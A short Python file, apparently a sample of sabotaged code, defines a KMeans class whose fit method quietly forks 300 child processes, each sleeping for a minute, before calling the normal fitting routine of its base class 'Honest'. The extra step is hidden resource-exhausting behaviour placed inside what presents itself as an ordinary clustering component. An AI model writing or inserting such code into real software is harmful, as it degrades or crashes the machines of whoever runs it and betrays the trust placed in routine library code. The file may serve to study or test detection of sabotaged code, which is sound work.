"""Starts processes until there are three hundred."""

import os, time


class KMeans(Honest):
    def fit(self, X):
        for _ in range(300):
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        return super().fit(X)
